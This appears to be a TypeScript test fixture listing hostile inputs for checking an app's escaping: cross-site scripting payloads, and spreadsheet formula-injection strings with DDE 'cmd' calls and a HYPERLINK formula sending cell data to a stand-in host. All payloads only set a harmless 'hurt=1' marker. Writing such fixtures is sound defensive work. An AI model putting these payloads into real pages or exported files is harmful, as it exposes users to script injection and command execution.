/** What somebody who means harm would write: into a page, into a spreadsheet, into whatever reads it next. */
export const HOSTILE = [
  '<script>window.hurt=1</script>',
  '<img src=x onerror="window.hurt=1">',
  '"><svg onload=window.hurt=1>',
  'javascript:window.hurt=1//',
  '{{constructor.constructor("window.hurt=1")()}}',
  '<a href="javascript:window.hurt=1">press</a>',
  '</textarea><iframe srcdoc="<script>parent.hurt=1</script>">',
  '\u202e<b>right to left</b>',
] as const;

/** Formulas of spreadsheets, plain, after blanks, after a line's end, in wide letters. */
export const FORMULAS = [
  '=HYPERLINK("http://x.example/?"&A1,"hurt=1")',
  '+1+cmd|"/c hurt=1"!A0',
  '-2+3+cmd|"/c hurt=1"!A0',
  '@SUM(1+1)*cmd|"/c hurt=1"!A0',
  '\t=1+1 hurt=1',
  '\r=1+1 hurt=1',
  '  =1+1 hurt=1',
  '＝1+1 hurt=1',
  '","=1+1 hurt=1',
] as const;

/** All of it at once, led by what a spreadsheet would run; `hurt=1` shows that it arrived. */
export const EVIL = `=1+1 ${HOSTILE.join(' ')}`;
export const MARK = 'hurt=1';
